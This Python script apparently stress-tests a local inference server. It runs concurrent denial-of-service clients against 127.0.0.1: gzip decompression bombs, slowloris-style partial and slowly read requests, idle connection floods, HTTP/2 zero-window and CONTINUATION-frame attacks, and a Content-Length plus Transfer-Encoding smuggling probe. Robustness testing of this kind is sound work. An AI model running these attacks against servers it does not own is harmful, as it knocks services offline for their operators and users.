"""Clients that attack: each makes the server hold as much as it can, and checks nothing.

usage: attacks.py --port PORT [--seconds 60] [--clients 60]

Prints how often each attack was made. Only against a server of your own.
"""

import argparse
import collections
import contextlib
import gzip
import itertools
import json
import socket
import struct
import threading
import time

# A client gives up waiting after this time, and attacks again with a new connection.
HELD_SECONDS = 4
LARGE = "/docs/swagger-ui-bundle.js"
HEADERS, SETTINGS, PING, CONTINUATION = 1, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
ENCODED = "Content-Encoding: gzip"


def head(length, *headers):
    lines = ["POST /predict HTTP/1.1", "Host: x", *headers, f"Content-Length: {length}"]
    return "\r\n".join(lines).encode() + b"\r\n\r\n"


def post(body, *headers):
    return head(len(body), *headers) + body


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def preface(window):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))


def block(path):
    """The headers of GET https://x<path>, by HPACK's static table."""
    return bytes([0x82, 0x87, 0x04, len(path)]) + path.encode() + bytes([0x01, 1]) + b"x"


def connect(port):
    return socket.create_connection(("127.0.0.1", port), timeout=HELD_SECONDS)


def until_closed(sock):
    deadline = time.monotonic() + HELD_SECONDS
    while time.monotonic() < deadline and sock.recv(65_536):
        pass


def answering_pings(sock):
    """Reads frames and answers settings and pings, so that the connection counts as alive."""
    deadline, buffer = time.monotonic() + HELD_SECONDS, b""
    while time.monotonic() < deadline:
        received = sock.recv(65_536)
        if not received:
            return
        buffer += received
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3]):
            length, kind, flags = int.from_bytes(buffer[:3]), buffer[3], buffer[4]
            payload, buffer = buffer[9 : 9 + length], buffer[9 + length :]
            if kind in (SETTINGS, PING) and not flags & 1:
                sock.sendall(frame(kind, 1, 0, payload if kind == PING else b""))


def sending(body):
    """An attack that sends these bytes and waits."""

    def attack(port):
        with connect(port) as sock:
            sock.sendall(body)
            until_closed(sock)

    return attack


def closed_windows(window):
    def attack(port):
        asked = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block(LARGE)) for n in range(100))
        with connect(port) as sock:
            sock.sendall(preface(window) + asked)
            answering_pings(sock)

    return attack


def pings_alone(port):
    with connect(port) as sock:
        sock.sendall(preface(65_535))
        answering_pings(sock)


def endless_headers(port):
    with connect(port) as sock:
        sock.sendall(preface(65_535) + frame(HEADERS, 0, 1, block("/livez")))
        for _ in range(HELD_SECONDS * 5):
            sock.sendall(frame(CONTINUATION, 0, 1))
            time.sleep(0.2)


def reading_slowly(port):
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(HELD_SECONDS)
        sock.connect(("127.0.0.1", port))
        sock.sendall(f"GET {LARGE} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        for _ in range(HELD_SECONDS * 5):
            sock.recv(64)
            time.sleep(0.2)


def connecting(port):
    """Many connections without a request."""
    with contextlib.ExitStack() as held:
        for _ in range(50):
            held.enter_context(connect(port)).sendall(b"GET /li")
        time.sleep(1)


def every(largest_body):
    """The attacks by name, for a server that takes bodies of this size."""
    fill = largest_body - 100
    key = gzip.compress(json.dumps({"x" * fill: 1}).encode(), 9)
    lists = gzip.compress(b'{"instances":[' + b"[]," * (fill // 3), 9)
    numbers = gzip.compress(b'{"instances":[[' + b"0," * (fill // 2) + b"0]]}", 9)
    return {
        "an unknown key as large as a body": sending(post(key, ENCODED)),
        "JSON of empty lists": sending(post(lists, ENCODED)),
        "JSON of zeros": sending(post(numbers, ENCODED)),
        "a body of spaces": sending(post(gzip.compress(b" " * fill, 9), ENCODED)),
        "half a body": sending(head(fill) + b"x" * (fill // 2)),
        "half a head": sending(b"POST /predict HTTP/1.1\r\nHost: x\r\nCont"),
        "windows of 0": closed_windows(0),
        "windows of 1": closed_windows(1),
        "pings alone": pings_alone,
        "headers without an end": endless_headers,
        "an answer read slowly": reading_slowly,
        "connections without a request": connecting,
        "two kinds of length": sending(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"),
    }


def play(port, seconds, clients, largest_body):
    """Runs all attacks side by side until the time is over; how often each was made."""
    attacks, made, deadline = every(largest_body), collections.Counter(), time.monotonic() + seconds
    names = itertools.cycle(attacks)

    def one(name):
        while time.monotonic() < deadline:
            # The server refuses, closes, or lets nobody in: all of that is allowed.
            with contextlib.suppress(OSError):
                attacks[name](port)
            made[name] += 1

    threads = [threading.Thread(target=one, args=[next(names)]) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return made


def main():
    parser = argparse.ArgumentParser(description="Attacks a server of your own.")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--clients", type=int, default=60)
    parser.add_argument("--largest-body", type=int, default=16 << 20, help="requests.max_body_bytes of the server")
    asked = parser.parse_args()
    print(json.dumps(play(asked.port, asked.seconds, asked.clients, asked.largest_body)))


if __name__ == "__main__":
    main()
